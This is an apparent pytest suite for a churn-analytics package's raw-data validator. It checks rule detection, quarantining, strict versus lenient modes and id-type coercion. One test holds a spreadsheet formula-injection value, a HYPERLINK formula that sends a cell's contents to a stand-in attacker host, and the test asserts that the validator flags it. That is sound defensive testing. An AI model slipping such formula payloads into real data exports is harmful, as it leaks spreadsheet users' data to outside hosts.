"""Every validation rule, each alone on the tiny company, plus strict versus lenient."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from churnlens.raw.loader import open_source
from churnlens.raw.mapping import Mapping
from churnlens.raw.validation import ContractError, ValidationFailed, validate_history
from conftest import NOW, tiny_tables, write_tables

Tables = dict[str, list[dict[str, object]]]


def _validate(folder: Path, strict: bool = False, quarantine: Path | None = None):  # type: ignore[no-untyped-def]
    source = open_source(folder, Mapping())
    return validate_history(source, now=NOW, strict=strict, quarantine_dir=quarantine)


def _set(table: str, index: int, **values: object) -> Callable[[Tables], None]:
    def mutate(tables: Tables) -> None:
        tables[table][index].update(values)
    return mutate


def _append(table: str, source_index: int, **values: object) -> Callable[[Tables], None]:
    def mutate(tables: Tables) -> None:
        tables[table].append({**tables[table][source_index], **values})
    return mutate


PROBLEMS = [
    # (id, mutation, table, rule, column)
    ("nps_above_10", _set("surveys", 0, score=11), "surveys", "out_of_range", "score"),
    ("nps_negative", _set("surveys", 1, score=-1), "surveys", "out_of_range", "score"),
    ("csat_zero", _set("tickets", 0, csat=0.0), "tickets", "out_of_range", "csat"),
    ("csat_six", _set("tickets", 0, csat=6.0), "tickets", "out_of_range", "csat"),
    ("negative_mrr", _set("subscriptions", 0, mrr=-5.0), "subscriptions", "out_of_range", "mrr"),
    ("negative_seats", _set("subscriptions", 3, seats=-1), "subscriptions", "out_of_range",
     "seats"),
    ("nan_mrr", _set("subscriptions", 3, mrr=float("nan")), "subscriptions", "out_of_range",
     "mrr"),
    ("resolved_before_created",
     _set("tickets", 0, resolved_at=datetime(2023, 1, 1)), "tickets",
     "resolved_before_created", "resolved_at"),
    ("end_before_start", _set("subscriptions", 2, end_date=date(2023, 1, 1)), "subscriptions",
     "end_before_start", "end_date"),
    ("overlapping_subscription",
     _append("subscriptions", 0, subscription_id="s9", start_date=date(2023, 3, 1),
             end_date=date(2023, 4, 1)),
     "subscriptions", "overlapping_subscription", "start_date"),
    ("overlap_with_open_subscription",
     _append("subscriptions", 1, subscription_id="s9", start_date=date(2023, 9, 1)),
     "subscriptions", "overlapping_subscription", "start_date"),
    ("event_of_unknown_account", _append("usage_events", 0, account_id="ghost"),
     "usage_events", "unknown_account", "account_id"),
    ("ticket_of_unknown_account", _append("tickets", 0, ticket_id="t9", account_id="ghost"),
     "tickets", "unknown_account", "account_id"),
    ("duplicate_account_id", _append("accounts", 0, name="Acme again"), "accounts",
     "duplicate_id", "account_id"),
    ("duplicate_ticket_id", _append("tickets", 1), "tickets", "duplicate_id", "ticket_id"),
    ("duplicate_response_id", _append("surveys", 0), "surveys", "duplicate_id", "response_id"),
    ("future_event", _set("usage_events", 2, event_ts=datetime(2031, 1, 1)), "usage_events",
     "future_timestamp", "event_ts"),
    ("future_signup", _append("accounts", 2, account_id="a9", created_at=datetime(2030, 1, 1)),
     "accounts", "future_timestamp", "created_at"),
    ("null_account_of_event", _set("usage_events", 1, account_id=None), "usage_events",
     "null_value", "account_id"),
    ("unknown_priority", _set("tickets", 1, priority="critical"), "tickets", "invalid_value",
     "priority"),
    ("unknown_billing_period", _set("subscriptions", 0, billing_period="weekly"),
     "subscriptions", "invalid_value", "billing_period"),
    ("seats_not_a_number", _set("subscriptions", 1, seats="twelve"), "subscriptions",
     "wrong_type", "seats"),
]


@pytest.mark.parametrize(("mutation", "table", "rule", "column"),
                         [p[1:] for p in PROBLEMS], ids=[p[0] for p in PROBLEMS])
def test_each_problem_alone_is_found_and_quarantined(
        tmp_path: Path, mutation: Callable[[Tables], None], table: str, rule: str,
        column: str) -> None:
    tables = tiny_tables()
    rows_before = {name: len(rows) for name, rows in tables.items()}
    mutation(tables)
    rows_in = {name: len(rows) for name, rows in tables.items()}
    folder = write_tables(tmp_path / "raw", tables)

    history = _validate(folder, quarantine=tmp_path / "quarantine")

    issues = history.report.issues
    assert [(i.table, i.rule, i.column, i.rows) for i in issues] == [(table, rule, column, 1)]
    assert issues[0].examples and len(issues[0].examples) == 1
    report = history.report.tables[table]
    assert report.rows_in == rows_in[table]
    assert report.rows_quarantined == 1
    assert report.rows_loaded == rows_in[table] - 1
    quarantined = pq.read_table(tmp_path / "quarantine" / f"{table}.parquet").to_pylist()
    assert [row["_reason"] for row in quarantined] == [rule]
    # nothing else moved: the other tables load whole
    for name, n in rows_before.items():
        if name != table:
            assert history.report.tables[name].rows_loaded == n


def test_clean_company_passes_and_loads_every_row(tmp_path: Path) -> None:
    folder = write_tables(tmp_path / "raw", tiny_tables())
    history = _validate(folder, strict=True, quarantine=tmp_path / "q")
    assert history.report.ok
    assert history.tables["subscriptions"].count().execute() == 4
    assert not (tmp_path / "q").exists() or not any((tmp_path / "q").iterdir())


def test_text_a_spreadsheet_would_run_is_warned_about_and_loaded(tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
    tables = tiny_tables()
    tables["accounts"].append({**tables["accounts"][2], "account_id": hyperlink})
    tables["accounts"].append({**tables["accounts"][2], "account_id": "a4",
                               "name": "-Minus Ltd"})
    tables["accounts"][1]["csm"] = "@everyone"
    folder = write_tables(tmp_path / "raw", tables)

    history = _validate(folder, strict=True, quarantine=tmp_path / "q")  # a warning, not a refusal

    report = history.report.tables["accounts"]
    assert history.report.ok and report.rows_loaded == 5 and not report.issues
    assert [(w.table, w.column, w.rule, w.rows, w.examples) for w in history.report.warnings] == [
        ("accounts", "account_id", "formula_text", 1, [{"account_id": hyperlink}]),
        ("accounts", "name", "formula_text", 1, [{"name": "-Minus Ltd"}]),
        ("accounts", "csm", "formula_text", 1, [{"csm": "@everyone"}])]
    assert "spreadsheet would run it as a formula" in report.warnings[0].message
    assert history.report.to_dict()["tables"]["accounts"]["warnings"][0]["rows"] == 1


def test_strict_mode_refuses_and_writes_no_quarantine(tmp_path: Path) -> None:
    tables = tiny_tables()
    tables["surveys"][0]["score"] = 11
    folder = write_tables(tmp_path / "raw", tables)
    with pytest.raises(ValidationFailed) as refused:
        _validate(folder, strict=True, quarantine=tmp_path / "q")
    assert "surveys.score: 1 row(s)" in str(refused.value)
    assert refused.value.report.tables["surveys"].rows_quarantined == 1
    assert not (tmp_path / "q" / "surveys.parquet").exists()


def test_quarantine_keeps_the_original_bad_value(tmp_path: Path) -> None:
    tables = tiny_tables()
    tables["subscriptions"][1]["seats"] = "twelve"
    folder = write_tables(tmp_path / "raw", tables)
    _validate(folder, quarantine=tmp_path / "q")
    row = pq.read_table(tmp_path / "q" / "subscriptions.parquet").to_pylist()[0]
    assert row["seats"] == "twelve"
    assert row["_column"] == "seats"


def test_clean_rows_are_typed_to_the_contract(tmp_path: Path) -> None:
    tables = tiny_tables()
    tables["subscriptions"][1]["seats"] = "twelve"  # forces the column to text
    folder = write_tables(tmp_path / "raw", tables)
    history = _validate(folder)
    schema = history.tables["subscriptions"].schema()
    assert str(schema["seats"]) == "int64"
    assert sorted(history.tables["subscriptions"].seats.execute().tolist()) == [3, 10, 50]


def test_missing_column_is_refused_with_table_and_column_named(tmp_path: Path) -> None:
    tables = tiny_tables()
    for row in tables["usage_events"]:
        del row["event_ts"]
    folder = write_tables(tmp_path / "raw", tables)
    with pytest.raises(ContractError, match=r"usage_events: missing required column\(s\) "
                                            r"event_ts"):
        _validate(folder)


def test_optional_column_gets_its_default(tmp_path: Path) -> None:
    tables = tiny_tables()
    for row in tables["usage_events"]:
        del row["quantity"]
    folder = write_tables(tmp_path / "raw", tables)
    history = _validate(folder, strict=True)
    assert history.tables["usage_events"].quantity.execute().tolist() == [1.0] * 4
    assert history.report.tables["usage_events"].defaulted_columns == ["quantity"]


def test_optional_tables_may_be_absent(tmp_path: Path) -> None:
    tables = tiny_tables()
    del tables["tickets"], tables["surveys"]
    folder = write_tables(tmp_path / "raw", tables)
    history = _validate(folder, strict=True)
    assert history.report.absent_tables == ["tickets", "surveys"]
    assert history.table("tickets") is None


def test_row_counts_always_add_up(tmp_path: Path) -> None:
    tables = tiny_tables()
    tables["surveys"][0]["score"] = 11
    tables["surveys"][0]["responded_at"] = datetime(2031, 1, 1)  # two problems, one row
    tables["usage_events"].append({**tables["usage_events"][0], "account_id": "ghost"})
    folder = write_tables(tmp_path / "raw", tables)
    report = _validate(folder, quarantine=tmp_path / "q").report
    for table in report.tables.values():
        assert table.rows_in == table.rows_loaded + table.rows_quarantined
    surveys = report.tables["surveys"]
    assert surveys.rows_quarantined == 1
    assert {i.rule for i in surveys.issues} == {"out_of_range", "future_timestamp"}


def test_a_table_whose_every_row_is_quarantined_loads_empty(tmp_path: Path) -> None:
    tables = tiny_tables()
    for row in tables["tickets"]:
        row["priority"] = "critical"
    folder = write_tables(tmp_path / "raw", tables)
    history = _validate(folder, quarantine=tmp_path / "q")
    report = history.report.tables["tickets"]
    assert (report.rows_in, report.rows_loaded, report.rows_quarantined) == (2, 0, 2)
    assert history.tables["tickets"].count().execute() == 0
    assert pq.read_table(tmp_path / "q" / "tickets.parquet").num_rows == 2


def test_an_empty_optional_table_loads(tmp_path: Path) -> None:
    tables = tiny_tables()
    tables["surveys"] = []
    folder = write_tables(tmp_path / "raw", tables)
    history = _validate(folder, strict=True)
    assert history.report.tables["surveys"].rows_in == 0
    assert history.report.ok


def _tables_read(expr) -> set[str]:  # type: ignore[no-untyped-def]
    import ibis.expr.operations as ops

    return {table.name for table in expr.op().find(ops.DatabaseTable)}


def test_events_skip_the_checks_only_when_every_row_passed(tmp_path: Path) -> None:
    """Event tables are read again by every build. When no row failed, those reads need not
    look up each event's account again; when one did, every read still leaves it out."""
    clean = _validate(write_tables(tmp_path / "clean", tiny_tables()))
    events = clean.tables["usage_events"]
    assert len(_tables_read(events)) == 1  # the events alone, not the accounts as well
    assert events.count().execute() == len(tiny_tables()["usage_events"])

    tables = tiny_tables()
    _append("usage_events", 0, account_id="ghost")(tables)
    dirty = _validate(write_tables(tmp_path / "dirty", tables))
    events = dirty.tables["usage_events"]
    assert len(_tables_read(events)) > 1
    assert events.count().execute() == len(tables["usage_events"]) - 1
    assert "ghost" not in set(events.account_id.execute())


def _numbered(tables: Tables, ids: dict[str, object]) -> Tables:
    """The tiny company with its account ids renumbered: a spreadsheet's customer numbers."""
    for rows in tables.values():
        for row in rows:
            row["account_id"] = ids[str(row["account_id"])]
    return tables


def test_whole_number_ids_read_as_floats_load_as_integers_written_as_text(
        tmp_path: Path) -> None:
    tables = _numbered(tiny_tables(), {"a1": "12347", "a2": "12348", "a3": "12349"})
    for row in tables["accounts"]:  # pandas wrote the accounts' ids as floats
        row["account_id"] = float(str(row["account_id"]))
    for row in tables["usage_events"]:  # and a CSV export the users' as "501.0"
        row["user_id"] = f"{500 + int(str(row['user_id'])[-1])}.0"
    folder = write_tables(tmp_path / "raw", tables)
    assert pq.read_schema(folder / "accounts.parquet").field("account_id").type == "double"
    history = _validate(folder, strict=True)
    assert sorted(history.tables["accounts"].account_id.execute()) == ["12347", "12348", "12349"]
    assert sorted(set(history.tables["usage_events"].user_id.execute())) == ["501", "502"]
    assert history.report.tables["usage_events"].rows_loaded == 4  # ids join the accounts
    warned = {(w.table, w.column): w for w in history.report.warnings}
    assert set(warned) == {("accounts", "account_id"), ("usage_events", "user_id")}
    assert warned["accounts", "account_id"].rows == 3
    assert "12347.0" in warned["accounts", "account_id"].message
    assert {e["account_id"] for e in warned["accounts", "account_id"].examples} == {
        12347.0, 12348.0, 12349.0}


def test_ids_in_mixed_forms_are_set_aside_with_table_column_count_and_examples(
        tmp_path: Path) -> None:
    tables = _numbered(tiny_tables(), {"a1": "12347", "a2": "12348", "a3": "12349"})
    for row, number in zip(tables["accounts"], (12347.0, 12348.0, 12349.5), strict=True):
        row["account_id"] = number  # 12349.5 names no account
    tables["usage_events"][0]["user_id"] = "501.0"  # beside "a1-u2", "a2-u1", ...
    folder = write_tables(tmp_path / "raw", tables)
    with pytest.raises(ValidationFailed):
        _validate(folder, strict=True)
    report = _validate(folder, quarantine=tmp_path / "q").report
    issues = {(i.table, i.column, i.rule): i for i in report.issues}
    fraction = issues["accounts", "account_id", "fractional_id"]
    assert fraction.rows == 1 and fraction.examples[0]["account_id"] == 12349.5
    mixed = issues["usage_events", "user_id", "mixed_id_forms"]
    assert mixed.rows == 1 and mixed.examples[0]["user_id"] == "501.0"
    assert "12347.0" in mixed.message
    assert pq.read_table(tmp_path / "q" / "usage_events.parquet").num_rows == 2  # + a3's event
